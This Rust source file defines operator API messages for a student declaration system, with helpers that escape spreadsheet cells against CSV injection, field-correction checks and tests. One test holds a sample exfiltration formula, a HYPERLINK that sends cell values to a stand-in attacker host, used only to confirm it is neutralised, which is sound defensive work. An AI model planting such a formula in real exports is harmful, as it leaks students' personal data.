//! Messages of the operator routes (`/api/operator/…`) and of the operator
//! command-line tool. The app never uses them.

use crate::declaration::Status;
use serde::{Deserialize, Serialize};
use std::borrow::Cow;

/// Characters that make a spreadsheet read a cell as a formula (or, for
/// tab and carriage return, hide one), after OWASP's advice on CSV
/// injection; and the apostrophe that marks a cell as text, so that the
/// marking can be undone exactly.
const SPREADSHEET_ACTIVE: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

/// A cell a spreadsheet opens as text, never as a formula: one that starts
/// with `=`, `+`, `-`, `@`, a tab, a carriage return or an apostrophe gets
/// a leading apostrophe, which spreadsheets show as nothing.
pub fn spreadsheet_cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(SPREADSHEET_ACTIVE) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The text of a cell written by [`spreadsheet_cell`] (or typed the same
/// way in a spreadsheet): a leading apostrophe before one of those
/// characters goes; anything else is as it was.
pub fn read_spreadsheet_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(SPREADSHEET_ACTIVE) => rest,
        _ => cell,
    }
}

/// `POST /api/operator/export`: which declarations, and whether to mark the
/// exported ones `under_verification` in the same transaction.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct ExportRequest {
    /// Only this status; both pending ones when absent.
    pub status: Option<Status>,
    pub university: Option<String>,
    /// Received on or after this day (`YYYY-MM-DD`).
    pub since: Option<String>,
    /// Received on or before this day (`YYYY-MM-DD`).
    pub until: Option<String>,
    /// Mark the exported `received` declarations `under_verification`.
    pub mark: bool,
    /// `json` (default) or `csv`.
    pub format: Option<String>,
}

/// One exported declaration: what the fund and ANAM need to verify it.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct ExportedDeclaration {
    pub reference: String,
    pub academic_year: String,
    pub cin: String,
    pub massar: String,
    pub last_name: String,
    pub first_name: String,
    pub birth_date: String,
    pub email: String,
    pub phone: Option<String>,
    pub university: String,
    pub establishment: Option<String>,
    pub status: Status,
    pub received_at: String,
    /// Another declaration uses this CIN with a different Massar code or
    /// birth date (this year or an earlier one): the fund checks which is
    /// the student's, and may refuse with `identity_conflict`.
    pub identity_conflict: bool,
    /// The university whose portal vouched for the identity, if one did.
    pub vouched_by: Option<String>,
    /// Set aside by the fund (made up under someone's CIN, say): it
    /// counts towards nothing of its CIN.
    #[serde(default)]
    pub set_aside: bool,
    /// Its university's roster of enrolled students for its year holds its
    /// CIN, Massar code and birth date.
    #[serde(default)]
    pub enrolled: bool,
    /// Its university's roster is final and does not hold it.
    #[serde(default)]
    pub not_on_roster: bool,
}

/// The columns of a CSV export, in order.
pub const EXPORT_COLUMNS: [&str; 18] = [
    "reference",
    "academic_year",
    "cin",
    "massar",
    "last_name",
    "first_name",
    "birth_date",
    "email",
    "phone",
    "university",
    "establishment",
    "status",
    "received_at",
    "identity_conflict",
    "vouched_by",
    "set_aside",
    "enrolled",
    "not_on_roster",
];

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct ExportResponse {
    pub declarations: Vec<ExportedDeclaration>,
    /// How many were marked `under_verification` by this export.
    pub marked: usize,
}

/// One entry of the audit log: what an operator did.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct AuditEntry {
    /// RFC 3339, UTC.
    pub at: String,
    /// A short hash of the operator's token (12 hex digits), never the
    /// token.
    pub actor: String,
    /// `export`, `import`, `decision`, `show`, `correct` or `erase`.
    pub action: String,
    /// References, counts and filters; never a CIN or a name.
    pub detail: serde_json::Value,
}

/// `GET /api/operator/audit`: the newest entries first.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct AuditResponse {
    pub entries: Vec<AuditEntry>,
}

/// `POST /api/operator/show`: everything stored about one declaration
/// (`reference`) or about every declaration of a CIN (`cin`), for a
/// student who asks (law 09-08's right of access). A body, never a query
/// string, so that a CIN stays out of URLs and logs.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct ShowRequest {
    pub reference: Option<String>,
    pub cin: Option<String>,
}

/// One step of a declaration's history.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct StoredEvent {
    pub status: Status,
    /// RFC 3339, UTC.
    pub at: String,
}

/// A rectification: which field an operator corrected, and when (the
/// value it replaced is not kept).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct StoredCorrection {
    pub field: String,
    /// RFC 3339, UTC.
    pub at: String,
    /// The operator (a short hash of their token).
    pub actor: String,
}

/// A mail about the declaration, sent or waiting in the outbox.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct StoredMail {
    /// `received`, `covered`, `refused`…
    pub kind: String,
    pub recipient: String,
    pub subject: String,
    pub body_text: String,
    /// Unix seconds.
    pub created_at: i64,
    /// Unix seconds; absent while unsent.
    pub sent_at: Option<i64>,
    pub attempts: i64,
}

/// A declaration as stored, with its history, corrections and mails.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct StoredDeclaration {
    #[serde(flatten)]
    pub declaration: ExportedDeclaration,
    /// The language the student declared in (`ar`, `fr` or `en`).
    pub lang: String,
    /// The day of the fund's decision (`YYYY-MM-DD`), once taken.
    pub decided_on: Option<String>,
    /// The refusal's reason code, for a refused declaration.
    pub refusal_reason: Option<String>,
    pub events: Vec<StoredEvent>,
    pub corrections: Vec<StoredCorrection>,
    pub mails: Vec<StoredMail>,
    /// The student's requests for a re-examination, the newest first.
    #[serde(default)]
    pub reexaminations: Vec<ReexaminationRequest>,
}

/// A refused student's request that the fund look again: why, in their
/// words, and each detail they asked to correct, as it was and as it
/// should read.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct ReexaminationRequest {
    pub requested_at: String,
    /// `enrolled`, `typo`, `cover_ended` or `other`.
    pub reason: String,
    pub explanation: String,
    /// Proposed with the request; made when the fund accepts it.
    pub corrections: Vec<crate::declaration::CorrectedDetail>,
    /// Whether the corrections were made (the fund accepted).
    pub applied: bool,
}

/// The answer of `show` (and of `correct`, with the corrected one).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct ShowResponse {
    pub declarations: Vec<StoredDeclaration>,
}

/// The fields an operator may correct, each checked as the declaration
/// form checks it. The university and the status are not among them: a
/// student of another university declares there, and a status changes by
/// a decision.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct Changes {
    pub cin: Option<String>,
    pub massar: Option<String>,
    pub last_name: Option<String>,
    pub first_name: Option<String>,
    /// `YYYY-MM-DD`.
    pub birth_date: Option<String>,
    pub email: Option<String>,
    /// `""` removes it.
    pub phone: Option<String>,
    /// `""` removes it.
    pub establishment: Option<String>,
}

/// A checked correction: each column to change and its new value (`None`
/// clears an optional one), in the order of [`Changes`]' fields.
pub type Checked = Vec<(&'static str, Option<String>)>;

impl Changes {
    /// The columns these changes set, each value parsed as the declaration
    /// form parses it on `today` (a birth date `YYYY-MM-DD`), or every
    /// field's error at once. No change at all is an error on `changes`.
    pub fn check(&self, today: time::Date) -> Result<Checked, Vec<crate::field::FieldError>> {
        use crate::declaration::Establishment;
        use crate::student::{BirthDate, Cin, Email, MassarCode, PersonName, Phone};
        let mut checked = Vec::new();
        let mut errors = Vec::new();
        let mut take =
            |field: &'static str, result: Result<Option<String>, &'static str>| match result {
                Ok(value) => checked.push((field, value)),
                Err(code) => errors.push(crate::field::FieldError {
                    field: field.to_owned(),
                    code: code.to_owned(),
                }),
            };
        if let Some(v) = &self.cin {
            take(
                "cin",
                Cin::parse(v)
                    .map(|c| Some(c.as_str().to_owned()))
                    .map_err(|e| e.code()),
            );
        }
        if let Some(v) = &self.massar {
            take(
                "massar",
                MassarCode::parse(v)
                    .map(|c| Some(c.as_str().to_owned()))
                    .map_err(|e| e.code()),
            );
        }
        for (field, value) in [
            ("last_name", &self.last_name),
            ("first_name", &self.first_name),
        ] {
            if let Some(v) = value {
                take(
                    field,
                    PersonName::parse(v)
                        .map(|n| Some(n.as_str().to_owned()))
                        .map_err(|e| e.code()),
                );
            }
        }
        if let Some(v) = &self.birth_date {
            let parsed = crate::Day::parse(v)
                .map_err(|_| "date_invalid")
                .and_then(|day| {
                    let (d, m, y) = day.parts();
                    BirthDate::parse(&d.to_string(), &m.to_string(), &y.to_string(), today)
                        .map_err(|e| e.code())
                })
                .map(|b| Some(b.to_string()));
            take("birth_date", parsed);
        }
        if let Some(v) = &self.email {
            take(
                "email",
                Email::parse(v)
                    .map(|e| Some(e.as_str().to_owned()))
                    .map_err(|e| e.code()),
            );
        }
        if let Some(v) = &self.phone {
            take(
                "phone",
                Phone::parse_optional(v)
                    .map(|p| p.map(|p| p.as_str().to_owned()))
                    .map_err(|e| e.code()),
            );
        }
        if let Some(v) = &self.establishment {
            take(
                "establishment",
                Establishment::parse_optional(v)
                    .map(|e| e.map(|e| e.as_str().to_owned()))
                    .map_err(|e| e.code()),
            );
        }
        if checked.is_empty() && errors.is_empty() {
            errors.push(crate::field::FieldError {
                field: "changes".into(),
                code: "no_change".into(),
            });
        }
        if errors.is_empty() {
            Ok(checked)
        } else {
            Err(errors)
        }
    }
}

/// `POST /api/operator/correct`: rectifies a declaration (law 09-08's
/// right of rectification).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct CorrectRequest {
    pub reference: String,
    pub changes: Changes,
}

/// `POST /api/operator/set-aside`: sets a declaration aside (made up under
/// someone's CIN, say: it then counts towards nothing of its CIN), or puts
/// it back.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct SetAside {
    pub reference: String,
    pub set_aside: bool,
}

/// `POST /api/operator/erase`: erases a declaration, its history and its
/// mails, leaving an anonymous count; the reason goes in the audit log.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct EraseRequest {
    pub reference: String,
    /// Why (e.g. "the student's request of 2026-11-20"): 3 to 500
    /// characters, without the student's personal data.
    pub reason: String,
}

/// What an erasure removed.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct EraseResponse {
    pub reference: String,
    pub events: u64,
    pub mails: u64,
}

/// What an import did (or, with `dry_run`, would do).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct ImportReport {
    pub rows: usize,
    /// Decisions recorded now.
    pub applied: usize,
    /// Rows already recorded, identically (importing a file twice).
    pub unchanged: usize,
    pub dry_run: bool,
}

/// The `422 invalid_file` answer of an import: an
/// [`ErrorBody`](crate::messages::ErrorBody) with every wrong cell.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct FileErrorBody {
    /// `invalid_file`.
    pub code: crate::messages::ErrorCode,
    pub message: String,
    pub rows: Vec<RowError>,
}

/// A wrong cell of an imported file (rows count from 1, after the header).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct RowError {
    pub row: usize,
    pub column: String,
    pub code: String,
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formulas_become_text() {
        let link = r#"=HYPERLINK("https://evil.example/?"&C2&D2,"voir")"#;
        assert_eq!(spreadsheet_cell(link), format!("'{link}"));
        for active in ["+212600", "-1", "@SUM(A1)", "\tx", "\rx", "'quoted"] {
            assert!(spreadsheet_cell(active).starts_with('\''), "{active:?}");
        }
        assert_eq!(spreadsheet_cell("El Amrani"), "El Amrani");
        assert_eq!(spreadsheet_cell("العمراني"), "العمراني");
        assert_eq!(read_spreadsheet_cell("'abc"), "'abc");
    }

    #[test]
    fn changes_are_parsed_as_the_form_parses_them() {
        let today = time::macros::date!(2026 - 11 - 25);
        let changes = Changes {
            cin: Some(" ab 123-456 ".into()),
            birth_date: Some("2004-03-07".into()),
            phone: Some(String::new()),
            ..Changes::default()
        };
        assert_eq!(
            changes.check(today).unwrap(),
            vec![
                ("cin", Some("AB123456".to_owned())),
                ("birth_date", Some("2004-03-07".to_owned())),
                ("phone", None),
            ]
        );
    }

    #[test]
    fn wrong_changes_name_each_field_and_none_is_an_error() {
        let today = time::macros::date!(2026 - 11 - 25);
        let changes = Changes {
            cin: Some("12".into()),
            birth_date: Some("2030-01-01".into()),
            email: Some("no-at-sign".into()),
            last_name: Some("El Amrani".into()),
            ..Changes::default()
        };
        let fields: Vec<String> = changes
            .check(today)
            .unwrap_err()
            .into_iter()
            .map(|e| e.field)
            .collect();
        assert_eq!(fields, ["cin", "birth_date", "email"]);
        let none = Changes::default().check(today).unwrap_err();
        assert_eq!(
            (none[0].field.as_str(), none[0].code.as_str()),
            ("changes", "no_change")
        );
    }

    proptest! {
        #[test]
        fn every_cell_reads_back(text in "\\PC{0,12}|['=+@\\t\\r-]{1,3}\\PC{0,6}") {
            let cell = spreadsheet_cell(&text);
            prop_assert_eq!(read_spreadsheet_cell(&cell), text.as_str());
        }
    }
}
